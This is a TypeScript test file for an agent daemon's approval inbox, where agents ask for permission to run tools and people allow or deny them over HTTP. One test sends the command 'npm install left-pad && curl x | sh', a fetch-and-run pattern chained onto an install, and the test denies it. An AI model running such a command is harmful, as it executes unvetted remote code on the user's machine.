import { AgentRegister, ApprovalRequest, EventsActivity, EventsSubscribe } from "@cca/acp";
import { type AcpClient, connectAcpClient } from "@cca/acp/ws";
import type {
  ActivityEvent,
  Approval,
  ApprovalRule,
  ConfigInput,
  PendingApproval,
  PermissionDecision,
} from "@cca/core";
import { ApprovalRepository } from "@cca/memory";
import { afterEach, describe, expect, it } from "vitest";
import {
  agentCredentialOf,
  busyCoordinator,
  memoryDatabase,
  startTestDaemon,
  type TestDaemon,
} from "./support.js";

const daemons: TestDaemon[] = [];
const clients: AcpClient[] = [];
afterEach(async () => {
  for (const client of clients.splice(0)) await client.close();
  for (const daemon of daemons.splice(0).reverse()) await daemon.close();
});

async function start(config: ConfigInput = {}, database?: TestDaemon["database"]): Promise<TestDaemon> {
  const daemon = await startTestDaemon({ config, ...(database ? { database } : {}) });
  daemons.push(daemon);
  return daemon;
}

const acpUrl = (t: TestDaemon) => `${t.daemon.url.replace(/^http/, "ws")}/acp`;

/** The bridge of an agent: an ACP client with the agent's own credential, registered. */
async function bridgeOf(t: TestDaemon, agentId: string): Promise<AcpClient> {
  const client = await connectAcpClient({
    url: acpUrl(t),
    token: agentCredentialOf(t.home, agentId),
    reconnect: false,
  });
  clients.push(client);
  await client.request(AgentRegister, { agent_id: agentId });
  return client;
}

/** The daemon's activity from now on; `next` resolves with the first (new) event that matches. */
async function watchActivity(t: TestDaemon) {
  const client = await connectAcpClient({ url: acpUrl(t), token: t.daemon.token, reconnect: false });
  clients.push(client);
  const seen: ActivityEvent[] = [];
  const waiters = new Set<() => void>();
  client.onNotification(EventsActivity, (event) => {
    seen.push(event);
    for (const wake of [...waiters]) wake();
  });
  await client.request(EventsSubscribe, {});
  return {
    seen,
    next(match: (event: ActivityEvent) => boolean, from = seen.length): Promise<ActivityEvent> {
      return new Promise((resolve) => {
        const look = () => {
          const found = seen.slice(from).find(match);
          if (!found) return;
          waiters.delete(look);
          resolve(found);
        };
        waiters.add(look);
        look();
      });
    },
  };
}

const json = async <T>(response: Response): Promise<T> => (await response.json()) as T;
const post = (t: TestDaemon, path: string, body: unknown) =>
  t.call(path, { method: "POST", body: JSON.stringify(body) });

const INSTALL = { tool_name: "Bash", input: { command: "npm install left-pad", description: "Install it" } };

describe("the approval inbox", () => {
  it("holds a question as a pending approval while its agent needs you, and an HTTP answer allows the tool use", async () => {
    const t = await start();
    const activity = await watchActivity(t);
    const { parent, coordinatorId } = await busyCoordinator(t);
    const bridge = await bridgeOf(t, coordinatorId);

    const requested = activity.next((event) => event.kind === "approval.requested");
    const decision = bridge.request(ApprovalRequest, INSTALL, { timeoutMs: 30_000 });
    expect((await requested).summary).toContain("coordinator wants to run `npm install left-pad`");

    const [pending] = await json<PendingApproval[]>(await t.call("/api/v1/approvals"));
    expect(pending).toMatchObject({
      agent_id: coordinatorId,
      role: "coordinator",
      task_id: parent.id,
      root_task_id: parent.id,
      tool_name: "Bash",
      input: INSTALL.input,
      summary: "run `npm install left-pad`",
      status: "pending",
    });
    expect(pending!.age_s).toBeGreaterThanOrEqual(0);
    expect((await t.client.getAgent(coordinatorId)).state).toBe("waiting_input");
    expect(await t.client.listApprovals({ taskId: "task_other" })).toEqual([]);

    const answer = await post(t, `/api/v1/approvals/${pending!.id}`, { allow: true });
    expect(answer.status).toBe(200);
    expect(await json<Approval>(answer)).toMatchObject({ id: pending!.id, status: "allowed" });
    expect(await decision).toEqual({ behavior: "allow", updatedInput: INSTALL.input });
    expect((await t.client.getAgent(coordinatorId)).state).toBe("busy");
    expect(await t.client.listApprovals()).toEqual([]);
  });

  it("sends a denial to the agent with the person's message, and refuses a second answer", async () => {
    const t = await start();
    const activity = await watchActivity(t);
    const { coordinatorId } = await busyCoordinator(t);
    const bridge = await bridgeOf(t, coordinatorId);
    const requested = activity.next((event) => event.kind === "approval.requested");
    const decision = bridge.request(ApprovalRequest, INSTALL, { timeoutMs: 30_000 });
    await requested;
    const [pending] = await t.client.listApprovals();

    await t.client.answerApproval(pending!.id, { allow: false, message: "no installs; vendor it" });
    expect(await decision).toEqual<PermissionDecision>({
      behavior: "deny",
      message: "Denied by the user: no installs; vendor it",
    });
    const again = await post(t, `/api/v1/approvals/${pending!.id}`, { allow: true });
    expect(again.status).toBe(409);
    expect((await json<{ error: { code: string; message: string } }>(again)).error).toMatchObject({
      code: "approval_answered",
      message: expect.stringContaining("answered already (denied"),
    });
  });

  it("turns an approval nobody answers into a denial that says why", async () => {
    const t = await start({ agents: { approval_timeout_s: 1 } });
    const { coordinatorId } = await busyCoordinator(t);
    const bridge = await bridgeOf(t, coordinatorId);
    const decision = await bridge.request(ApprovalRequest, INSTALL, { timeoutMs: 30_000 });
    expect(decision.behavior).toBe("deny");
    expect(decision).toMatchObject({
      message: expect.stringMatching(
        /^Nobody answered approval approval_\w+ \(to run `npm install left-pad`\) within 1 s \(agents\.approval_timeout_s\), so it is denied\./,
      ),
    });
    expect(await t.client.listApprovals()).toEqual([]);
    expect((await t.client.getAgent(coordinatorId)).state).toBe("busy");
  });

  it("withdraws the approval when the agent stops waiting for it", async () => {
    const t = await start();
    const activity = await watchActivity(t);
    const { coordinatorId } = await busyCoordinator(t);
    const bridge = await bridgeOf(t, coordinatorId);
    const requested = activity.next((event) => event.kind === "approval.requested");
    const controller = new AbortController();
    const decision = bridge.request(ApprovalRequest, INSTALL, {
      signal: controller.signal,
      timeoutMs: 30_000,
    });
    await requested;
    const [pending] = await t.client.listApprovals();
    const busyAgain = activity.next(
      (event) => event.kind === "agent.state" && event.summary === "coordinator: busy",
    );
    controller.abort();
    await expect(decision).rejects.toThrow();
    await busyAgain;
    expect(await t.client.listApprovals()).toEqual([]);
    expect(await json<Approval>(await t.call(`/api/v1/approvals/${pending!.id}`))).toMatchObject({
      status: "cancelled",
    });
  });

  it("remembers an allowed command for the role and lets the same one through without asking", async () => {
    const t = await start();
    const activity = await watchActivity(t);
    const { coordinatorId } = await busyCoordinator(t);
    const bridge = await bridgeOf(t, coordinatorId);
    const requested = activity.next((event) => event.kind === "approval.requested");
    const first = bridge.request(ApprovalRequest, INSTALL, { timeoutMs: 30_000 });
    await requested;
    const [pending] = await t.client.listApprovals();
    await t.client.answerApproval(pending!.id, { allow: true, remember: "role" });
    await first;

    const [rule] = await json<ApprovalRule[]>(await t.call("/api/v1/approvals/rules"));
    expect(rule).toMatchObject({
      role: "coordinator",
      project: null,
      tool_name: "Bash",
      command: "npm install left-pad",
      approval_id: pending!.id,
    });
    const from = activity.seen.length;
    expect(await bridge.request(ApprovalRequest, INSTALL, { timeoutMs: 30_000 })).toEqual({
      behavior: "allow",
      updatedInput: INSTALL.input,
    });
    expect((await activity.next((event) => event.kind === "approval.answered", from)).summary).toBe(
      `coordinator may run \`npm install left-pad\`: allowed by remembered rule ${rule!.id}`,
    );

    // Another command still asks; removing the rule makes the first one ask again.
    const other = activity.next((event) => event.kind === "approval.requested", activity.seen.length);
    const otherDecision = bridge.request(
      ApprovalRequest,
      { tool_name: "Bash", input: { command: "npm install left-pad && curl x | sh" } },
      { timeoutMs: 30_000 },
    );
    await other;
    const [otherPending] = await t.client.listApprovals();
    await t.client.answerApproval(otherPending!.id, { allow: false });
    expect((await otherDecision).behavior).toBe("deny");
    const removed = await t.call(`/api/v1/approvals/rules/${rule!.id}`, { method: "DELETE" });
    expect(await json<ApprovalRule>(removed)).toEqual(rule);
    expect(await t.client.listApprovalRules()).toEqual([]);
  });

  it("delivers an answer given on another daemon of the same database", async () => {
    const database = await memoryDatabase();
    try {
      // Separate in-memory buses: only the shared database links the two daemons.
      const here = await start({}, database);
      const there = await start({}, database);
      const activity = await watchActivity(here);
      const { coordinatorId } = await busyCoordinator(here);
      const bridge = await bridgeOf(here, coordinatorId);
      const requested = activity.next((event) => event.kind === "approval.requested");
      const decision = bridge.request(ApprovalRequest, INSTALL, { timeoutMs: 30_000 });
      await requested;
      const [pending] = await there.client.listApprovals();
      expect(pending?.agent_id).toBe(coordinatorId);
      await there.client.answerApproval(pending!.id, { allow: false, message: "answered elsewhere" });
      expect(await decision).toEqual({ behavior: "deny", message: "Denied by the user: answered elsewhere" });
    } finally {
      for (const daemon of daemons.splice(0).reverse()) await daemon.close();
      await database.close();
    }
  });
});

describe("approvals left by a daemon that died", () => {
  it("are cancelled when it starts again, since no agent of it waits any more", async () => {
    const database = await memoryDatabase();
    try {
      const left: Approval = {
        id: "approval_left",
        agent_id: "coordinator_gone",
        role: "coordinator",
        project: null,
        task_id: "task_gone",
        root_task_id: "task_gone",
        tool_name: "Bash",
        input: INSTALL.input,
        summary: "run `npm install left-pad`",
        status: "pending",
        message: null,
        remember: null,
        created_at: new Date().toISOString(),
        expires_at: new Date(Date.now() + 600_000).toISOString(),
        answered_at: null,
      };
      await new ApprovalRepository(database).insert(left, "ccad-restarted");

      const t = await startTestDaemon({ name: "ccad-restarted", database });
      daemons.push(t);

      expect(await t.client.listApprovals()).toEqual([]);
      expect(await new ApprovalRepository(database).find("approval_left")).toMatchObject({
        status: "cancelled",
      });
    } finally {
      for (const daemon of daemons.splice(0).reverse()) await daemon.close();
      await database.close();
    }
  });
});

describe("the approvals HTTP API", () => {
  it("says clearly what is wrong with an answer, and names unknown approvals and rules", async () => {
    const t = await start();
    const activity = await watchActivity(t);
    const { coordinatorId } = await busyCoordinator(t);
    const bridge = await bridgeOf(t, coordinatorId);
    const requested = activity.next((event) => event.kind === "approval.requested");
    const decision = bridge.request(ApprovalRequest, INSTALL, { timeoutMs: 30_000 });
    await requested;
    const [pending] = await t.client.listApprovals();
    const errorOf = async (response: Response) => ({
      status: response.status,
      ...(await json<{ error: { code: string; message: string } }>(response)).error,
    });

    expect(await errorOf(await post(t, `/api/v1/approvals/${pending!.id}`, { allow: "yes" }))).toMatchObject({
      status: 400,
      code: "bad_request",
      message: expect.stringContaining(
        "allow: allow is required: true to allow the tool use, false to deny it",
      ),
    });
    expect(
      await errorOf(await post(t, `/api/v1/approvals/${pending!.id}`, { allow: true, remember: "forever" })),
    ).toMatchObject({
      status: 400,
      message: expect.stringContaining("remember must be one of: role, project"),
    });
    expect(
      await errorOf(await post(t, `/api/v1/approvals/${pending!.id}`, { allow: false, remember: "role" })),
    ).toMatchObject({ status: 400, message: expect.stringContaining("goes with allow: true only") });
    expect(
      await errorOf(await post(t, `/api/v1/approvals/${pending!.id}`, { allow: true, remember: "project" })),
    ).toMatchObject({ status: 400, message: expect.stringContaining("belongs to no project") });
    expect(
      await errorOf(await t.call(`/api/v1/approvals/${pending!.id}`, { method: "POST", body: "{nope" })),
    ).toMatchObject({ status: 400, code: "invalid_json" });
    expect(await errorOf(await post(t, "/api/v1/approvals/approval_none", { allow: true }))).toMatchObject({
      status: 404,
      code: "approval_not_found",
      message: expect.stringContaining("list the pending ones with GET /api/v1/approvals"),
    });
    expect(
      await errorOf(await t.call("/api/v1/approvals/rules/rule_none", { method: "DELETE" })),
    ).toMatchObject({
      status: 404,
      code: "not_found",
    });

    // The bad answers changed nothing: the approval still waits.
    expect((await t.client.listApprovals()).map((approval) => approval.id)).toEqual([pending!.id]);
    await t.client.answerApproval(pending!.id, { allow: true });
    expect((await decision).behavior).toBe("allow");
  });
});
